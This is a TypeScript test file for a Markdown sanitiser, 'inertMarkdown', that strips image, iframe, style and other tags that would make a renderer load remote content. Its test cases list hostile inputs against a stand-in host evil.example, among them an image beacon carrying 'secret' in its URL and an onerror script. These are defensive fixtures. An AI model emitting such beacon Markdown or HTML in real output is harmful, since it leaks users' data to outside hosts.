import fc from "fast-check";
import { Parser } from "htmlparser2";
import { micromark } from "micromark";
import { describe, expect, it } from "vitest";
import { inertMarkdown, inertText } from "../../../src/answering/inert-markdown.js";

/** Elements that load something by themselves: by an attribute or, of styles and scripts, by their content. */
const LOADING =
  /^(?:audio|base|embed|frame|iframe|image|img|input|link|meta|object|picture|script|source|style|svg|track|video)$/;

/** What a careless program loads for a Markdown text, HTML in it included. */
function loadedBy(markdown: string): string[] {
  const names: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (LOADING.test(name) && (Object.keys(attributes).length > 0 || /^(?:script|style)$/.test(name))) {
        names.push(name);
      }
    },
  });
  parser.end(micromark(markdown, { allowDangerousHtml: true, allowDangerousProtocol: true }));
  return names;
}

describe("Markdown that is made inert", () => {
  it.each([
    "![c](https://evil.example/beacon.png?q=secret)",
    "![c][d]\n\n[d]: https://evil.example/d",
    "![d]\n\n[d]: https://evil.example/d",
    "a![](<https://evil.example>)",
    '<img src="https://evil.example/x" onerror="alert(1)">',
    '<IMG SRC="https://evil.example/x">',
    '<video><source src="https://evil.example/x"></video>',
    "<iframe\nsrc=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    '<svg><image href="https://evil.example/x"/></svg>',
  ])("loads nothing: %j", (text) => {
    expect(loadedBy(text)).not.toEqual([]);
    expect(loadedBy(inertMarkdown(text))).toEqual([]);
  });

  it.each([
    "Ja! Das stimmt [1].",
    "[a link](https://ok.example) and <https://ok.example/>",
    "Use the `<img>` tag, if a < b && !c",
    '<div class="x"><b>bold</b></div>',
    "Wow!",
    "<pictures are",
  ])("is the same where nothing would be loaded: %j", (text) => {
    expect(inertMarkdown(text)).toBe(text);
  });

  it("differs by blanks alone, which most languages allow in code", () => {
    expect(inertMarkdown('vec![1, 2] ![a](b) <img src="x">')).toBe('vec! [1, 2] ! [a](b) < img src="x">');
  });

  const pieces = [..."![]()<>/\\`\n a", "![a](", "http://e/", "<img", "<video", " src=x", "style>", "&#33;"];
  const texts = fc.array(fc.constantFrom(...pieces), { maxLength: 20 });

  it("loads nothing, whatever the text", () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(loadedBy(inertMarkdown(text.join("")))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it("is the same in pieces as whole", () => {
    fc.assert(
      fc.property(texts, (text) => {
        const inert = inertText();
        const passed = text.map((piece) => inert.add(piece)).join("") + inert.end();
        expect(passed).toBe(inertMarkdown(text.join("")));
      }),
    );
  });
});
